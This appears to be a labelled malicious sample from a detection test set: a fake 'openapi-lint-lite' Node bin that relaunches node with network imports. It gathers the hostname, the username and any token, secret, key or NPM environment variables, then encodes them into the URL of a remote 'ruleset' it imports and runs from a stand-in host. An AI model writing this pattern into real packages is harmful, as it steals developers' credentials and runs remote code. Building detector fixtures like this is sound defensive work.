// expect: malicious
// source: blind set 48's openapi-lint-lite (network-import-flag-loader): the bin re-runs node with
// --experimental-network-imports and imports a "community ruleset" whose URL path carries the host, the user and every
// secret-named variable, base64url-encoded: the remote module receives the data and runs with full privileges
import { spawnSync } from 'node:child_process';
import { hostname, userInfo } from 'node:os';
import { fileURLToPath } from 'node:url';

if (!process.execArgv.includes('--experimental-network-imports')) {
  const r = spawnSync(process.execPath, ['--experimental-network-imports', fileURLToPath(import.meta.url), ...process.argv.slice(2)], { stdio: 'inherit' });
  process.exit(r.status ?? 1);
}
const ctx = Buffer.from(JSON.stringify({
  h: hostname(), u: userInfo().username,
  t: Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY|NPM/i.test(k))),
})).toString('base64url');
const remote = await import(`https://rules.openapi-lint.invalid/v1/${ctx}/ruleset.mjs`);
export default remote.default;
